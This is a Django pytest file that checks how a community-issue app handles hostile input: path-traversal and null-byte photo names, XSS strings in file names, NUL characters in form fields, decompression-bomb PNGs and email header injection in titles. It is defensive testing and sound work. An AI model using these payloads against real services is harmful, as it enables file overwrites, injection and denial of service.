def test_it_refuses_more_text_than_a_request_may_carry(client, grid_worker, courtyard, media):
    """Form text beyond DATA_UPLOAD_MAX_MEMORY_SIZE is refused before any form runs."""
    client.force_login(grid_worker)

    r = client.post(
        reverse("issues:new"),
        urlencode(capture(courtyard, description="字" * (6 * 1024 * 1024))),
        content_type="application/x-www-form-urlencoded",
    )

    assert r.status_code in (400, 413)
    assert not Issue.objects.exists()
    assert files_under(media) == []


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd.jpg",
        "..\\..\\evil.jpg",
        "/etc/cron.d/evil.jpg",
        "C:\\Windows\\evil.jpg",
        "....//....//evil.jpg",
        "evil.php\x00.jpg",
        "evil.jpg.php",
        ".htaccess",
        "%2e%2e%2fevil.jpg",
        "<script>alert(1)</script>.jpg",
        "长" * 300 + ".jpg",
    ],
)
def test_it_stores_a_photo_under_a_generated_name_whatever_it_was_called(
    client, grid_worker, courtyard, media, name
):
    client.force_login(grid_worker)

    r = client.post(
        reverse("issues:new"),
        capture(courtyard, photos=[SimpleUploadedFile(name, png(), "image/png")]),
    )

    assert r.status_code == 302
    photo = Attachment.objects.get()
    root = media.resolve()
    for field in (photo.image, photo.thumbnail):
        path = Path(field.path).resolve()
        assert path.is_relative_to(root)
        assert re.fullmatch(r"photos/\d{4}/\d{2}/[0-9a-f]{24}\.jpg", field.name), field.name
    stored = files_under(media)
    assert len(stored) == 2
    assert all(p.resolve().is_relative_to(root) for p in stored)
    assert not any("evil" in str(p) or "passwd" in str(p) for p in stored)


def test_it_shows_a_hostile_file_name_escaped_in_the_refusal(client, grid_worker, courtyard, media):
    client.force_login(grid_worker)
    name = "<img src=x onerror=alert(1)>.jpg"

    r = client.post(
        reverse("issues:new"),
        capture(courtyard, photos=[SimpleUploadedFile(name, b"not a photo", "image/jpeg")]),
    )

    assert r.status_code == 400
    html = r.content.decode()
    assert "<img src=x" not in html
    assert escape(name) in html
    assert files_under(media) == []


def test_it_stores_nothing_when_one_of_several_photos_is_refused(
    client, grid_worker, courtyard, media
):
    client.force_login(grid_worker)
    uploads = [
        SimpleUploadedFile("good.png", png(), "image/png"),
        SimpleUploadedFile("bad.jpg", PDF, "image/jpeg"),
    ]

    r = client.post(reverse("issues:new"), capture(courtyard, photos=uploads))

    assert_refused(r, media, "bad.jpg")


def test_it_writes_no_photo_for_a_capture_the_service_refuses(
    client, grid_worker, courtyard, media, monkeypatch
):
    """Refused after its photos were checked (the courtyard left the worker's grids): none kept."""
    client.force_login(grid_worker)
    monkeypatch.setattr(services.Scope, "walks", lambda self, grid_id: False, raising=True)

    r = client.post(
        reverse("issues:new"),
        capture(courtyard, photos=[SimpleUploadedFile("good.png", png(), "image/png")]),
    )

    assert r.status_code == 400
    assert not Issue.objects.exists()
    assert files_under(media) == []


# --- NUL characters ------------------------------------------------------------------------------
# PostgreSQL cannot hold a NUL in text: one that reaches a query is a 500. Every form field and
# every parameter read by hand is refused with a message before it reaches the database.

NUL = "\x00"


@pytest.fixture
def nul_world(community, grid, other_grid, courtyard, staff, assignee, grid_worker):
    dispute = IssueFactory(
        courtyard=courtyard, category=category("dispute"), created_by=grid_worker
    )
    listed = IssueFactory(courtyard=courtyard, status=Issue.Status.LISTED, created_by=grid_worker)
    in_progress = IssueFactory(
        courtyard=courtyard, status=Issue.Status.IN_PROGRESS, created_by=grid_worker
    )
    resolved = IssueFactory(courtyard=courtyard, status=Issue.Status.RESOLVED)
    visit = FollowUpFactory(issue=resolved, assignee=staff)
    patrol = Patrol.objects.create(grid_worker=grid_worker, grid=grid, started_at=timezone.now())
    return {
        "dispute": dispute,
        "listed": listed,
        "in_progress": in_progress,
        "resolved": resolved,
        "visit": visit,
        "patrol": patrol,
        "courtyard": courtyard,
        "assignee": assignee,
        "other_grid": other_grid,
    }


def nul_forms(w: dict) -> dict[str, tuple[str, str, dict]]:
    """(who, url, a valid POST) by form: each field in turn is then given a NUL."""
    d, listed, inp, res = w["dispute"], w["listed"], w["in_progress"], w["resolved"]
    visit = f"visit-{w['visit'].pk}"
    forms = [
        (
            "staff",
            reverse("issues:bulk"),
            {
                "issue": d.reference,
                "action": "list",
                "assignee": w["assignee"].pk,
                "due_date": "",
                "next": "/issues/",
            },
        ),
        (
            "grid_worker",
            reverse("issues:new"),
            {
                "courtyard": w["courtyard"].pk,
                "category": category("road").pk,
                "urgency": "normal",
                "title": "路灯不亮",
                "description": "晚上很黑。",
                "source": "visit",
                "resident_name": "卓玛",
                "resident_phone": "13812345678",
                "people_affected": "3",
                "amount_owed": "",
                "patrol": w["patrol"].pk,
                "token": str(uuid.uuid4()),
            },
        ),
        (
            "staff",
            reverse("issues:transition", args=[d.reference, "list"]),
            {
                "list-seen_status": "collected",
                "list-assignee": w["assignee"].pk,
                "list-due_date": "",
            },
        ),
        (
            "staff",
            reverse("issues:transition", args=[inp.reference, "resolve"]),
            {"resolve-seen_status": "in_progress", "resolve-resolution": "已修复。"},
        ),
        (
            "staff",
            reverse("issues:transition", args=[res.reference, "reopen"]),
            {"reopen-seen_status": "resolved", "reopen-reason": "住户反映仍有问题。"},
        ),
        (
            "staff",
            reverse("issues:assign", args=[listed.reference]),
            {"assign-assignee": w["assignee"].pk, "assign-seen_assignee": ""},
        ),
        (
            "staff",
            reverse("issues:comment", args=[d.reference]),
            {"note": "已电话联系。"},
        ),
        (
            "staff",
            reverse("issues:comment", args=[d.reference]),
            # From the capture form's duplicate hint: the resident's words become the comment.
            {"next": "created", "note": "", "title": "路灯不亮", "description": ""},
        ),
        (
            "staff",
            reverse("issues:mediation", args=[d.reference]),
            {
                "mediation-mediated_on": timezone.localdate().isoformat(),
                "mediation-parties": "住户甲、住户乙",
                "mediation-place": "社区",
                "mediation-method": "in_person",
                "mediation-outcome": "agreement",
                "mediation-agreement": "互相谅解。",
            },
        ),
        (
            "staff",
            reverse("issues:followup_record", args=[w["visit"].pk]),
            {
                f"{visit}-method": "phone",
                f"{visit}-satisfaction": "satisfied",
                f"{visit}-notes": "满意。",
                "next": "/followups/",
            },
        ),
        ("staff", reverse("issues:notifications_read"), {"id": "1", "next": "/notifications/"}),
        (
            "grid_worker",
            reverse("grids:patrol_end", args=[w["patrol"].pk]),
            {"notes": "无异常。"},
        ),
        (
            "other_grid_worker",
            reverse("grids:patrol_start"),
            {"grid": w["other_grid"].pk, "kind": "routine", "notes": "雨后巡查。"},
        ),
        ("staff", reverse("set_language"), {"language": "en", "next": "/issues/"}),
    ]
    return dict(zip(NUL_FORMS, forms, strict=True))


def db_snapshot() -> tuple:
    return (
        list(Issue.objects.order_by("pk").values_list("pk", "status", "assignee_id", "due_at")),
        list(Issue.objects.values_list("pk", "last_activity_at")),
        Mediation.objects.count(),
        list(FollowUp.objects.values_list("pk", "done_at")),
        list(Patrol.objects.values_list("pk", "ended_at")),
        list(Notification.objects.values_list("pk", "read_at")),
    )


def message_of(client, r) -> str:
    """What the user is told: the page itself, or the page the redirect leads to."""
    if r.status_code in (301, 302):
        return client.get(r["Location"]).content.decode()
    return r.content.decode()


REFUSAL = re.compile(r'errorlist|alert-error|<li class="error">')
NUL_FORMS = [
    "bulk",
    "capture",
    "list",
    "resolve",
    "reopen",
    "assign",
    "comment",
    "comment_from_capture",
    "mediation",
    "visit",
    "notifications_read",
    "patrol_end",
    "patrol_start",
    "set_language",
]


@pytest.mark.parametrize("form", NUL_FORMS)
def test_it_refuses_a_nul_in_every_posted_field_with_a_message(client, request, nul_world, form):
    client.raise_request_exception = False
    who, url, data = nul_forms(nul_world)[form]
    client.force_login(request.getfixturevalue(who))
    wrong = []
    for name in data:
        before = db_snapshot()
        r = client.post(url, {**data, name: f"a{NUL}b"})
        text = message_of(client, r) if r.status_code != 500 else ""
        # The language and the "next" links only say where to go: a NUL there is no error,
        # they fall back to the page's own default.
        harmless = (name == "next" and data[name] != "created") or form == "set_language"
        if r.status_code >= 500 or (not harmless and db_snapshot() != before):
            wrong.append((name, r.status_code, "changed"))
        elif not harmless and not REFUSAL.search(text):
            wrong.append((name, r.status_code, "no message"))

    assert wrong == []


@pytest.mark.parametrize(
    "url",
    [
        "/issues/new/?patrol=%00",
        "/issues/new/duplicates/?courtyard=%00&category=%00",
        "/accounts/login/?next=%00",
        "/admin/issues/issue/?q=a%00b",
        "/admin/grids/courtyard/?q=%00",
        "/admin/auth/user/?q=%00",
        "/admin/issues/issue/?status__exact=%00",
    ],
)
def test_it_answers_a_nul_in_a_query_parameter_without_a_500(client, admin_user, url, nul_world):
    client.force_login(admin_user)
    client.raise_request_exception = False

    r = client.get(url)

    assert r.status_code < 500


def test_it_refuses_a_nul_in_the_password_reset_form(client):
    r = client.post(reverse("password_reset"), {"email": f"a{NUL}b@example.org"})

    assert r.status_code == 200
    assert "errorlist" in r.content.decode()


@pytest.mark.parametrize("field", ["username", "password"])
def test_it_refuses_a_nul_in_the_login_form(client, grid_worker, field):
    client.raise_request_exception = False
    data = {"username": "gridworker", "password": "grassroots-test", field: f"a{NUL}b"}

    r = client.post(reverse("login"), data)

    assert r.status_code == 200
    assert "errorlist" in r.content.decode()


def test_it_names_a_nul_reference_as_not_found_in_a_bulk_action(client, staff, courtyard):
    issue = IssueFactory(courtyard=courtyard)
    client.force_login(staff)

    r = client.post(reverse("issues:bulk"), {"issue": [issue.reference, NUL], "action": "list"})

    assert r.status_code == 302
    page = client.get(r["Location"]).content.decode()
    assert '<li class="error">: ' in page
    # The real reference is listed; the forged one is not found, as one that does not exist.
    issue.refresh_from_db()
    assert issue.status == Issue.Status.LISTED


# --- Photos that are small on disk and huge in memory ------------------------------------------


@pytest.fixture(scope="module")
def one_bit_bomb() -> bytes:
    """A real 1-bit PNG of 7,000 × 8,000 pixels: 56 megapixels, under MAX_PIXELS, about 7 KB."""
    out = io.BytesIO()
    Image.new("1", (7000, 8000)).save(out, "PNG", optimize=True)
    return out.getvalue()


def test_it_refuses_a_one_bit_photo_that_decodes_too_large_without_decoding_it(
    client, grid_worker, courtyard, media, one_bit_bomb, monkeypatch
):
    assert len(one_bit_bomb) < 20_000
    assert MAX_PIXELS > 7000 * 8000
    decoded = []
    real_load = Image.Image.load
    monkeypatch.setattr(Image.Image, "load", lambda img: decoded.append(img.size) or real_load(img))
    client.force_login(grid_worker)

    started = time.monotonic()
    r = client.post(
        reverse("issues:new"),
        capture(
            courtyard,
            photos=[
                SimpleUploadedFile(f"bomb{i}.png", one_bit_bomb, "image/png") for i in range(6)
            ],
        ),
    )
    elapsed = time.monotonic() - started

    assert_refused(r, media, "bomb0.png")
    assert "bomb5.png" in r.content.decode()
    # Refused from the headers: no pixel of the 56-megapixel images was decoded.
    assert (7000, 8000) not in decoded
    assert elapsed < 2, elapsed


def test_it_decodes_no_photo_when_a_later_one_is_refused(
    client, grid_worker, courtyard, media, one_bit_bomb, monkeypatch
):
    good = png(300)
    decoded = []
    real_load = Image.Image.load
    monkeypatch.setattr(Image.Image, "load", lambda img: decoded.append(img.size) or real_load(img))
    client.force_login(grid_worker)

    r = client.post(
        reverse("issues:new"),
        capture(
            courtyard,
            photos=[
                SimpleUploadedFile("good.png", good, "image/png"),
                SimpleUploadedFile("bomb.png", one_bit_bomb, "image/png"),
            ],
        ),
    )

    assert_refused(r, media, "bomb.png")
    assert (300, 300) not in decoded


@pytest.mark.parametrize(
    ("mode", "size", "accepted"),
    [
        ("RGB", (6000, 4000), True),  # a 24-megapixel phone photo
        ("1", (7000, 8000), False),  # 56 MP, 168 MB once made RGB
        ("L", (7000, 6000), False),  # 42 MP of grey, 126 MB once made RGB
    ],
)
def test_it_limits_the_decoded_size_not_only_the_pixels(mode, size, accepted):
    from issues.photos import check_photo

    out = io.BytesIO()
    Image.new(mode, size).save(out, "PNG")
    upload = SimpleUploadedFile("photo.png", out.getvalue(), "image/png")

    if accepted:
        check_photo(upload)
    else:
        with pytest.raises(ValidationError, match=r"photo\.png"):
            check_photo(upload)


# --- Titles are one line -------------------------------------------------------------------------

BROKEN_TITLE = "水管漏水\r\nBcc: victim@example.org\u2028http://evil.example/\n\n"


def test_it_keeps_a_typed_title_on_one_line(client, grid_worker, courtyard, media):
    client.force_login(grid_worker)

    r = client.post(reverse("issues:new"), capture(courtyard, title=BROKEN_TITLE))

    assert r.status_code == 302
    assert Issue.objects.get().title == "水管漏水 Bcc: victim@example.org http://evil.example/"


def test_the_service_keeps_a_title_on_one_line(grid_worker, courtyard):
    issue, _created = services.create_issue(
        by=grid_worker, courtyard=courtyard, category=category("road"), title=BROKEN_TITLE
    )

    assert issue.title == "水管漏水 Bcc: victim@example.org http://evil.example/"


def test_it_draws_no_line_of_a_stored_title_into_an_email_body(courtyard, staff):
    issue = IssueFactory(courtyard=courtyard, title=BROKEN_TITLE)
    courtyard.name = "格东大院\nBcc: victim@example.org"
    courtyard.save()
    row = Notification.objects.create(recipient=staff, kind="urgent", issue=issue)
    mail.outbox.clear()

    notifications.deliver([row.pk])

    body = mail.outbox[0].body
    assert "水管漏水 Bcc: victim@example.org http://evil.example/" in body
    lines = body.splitlines()
    assert not any(line.startswith(("Bcc:", "http://evil")) for line in lines), lines
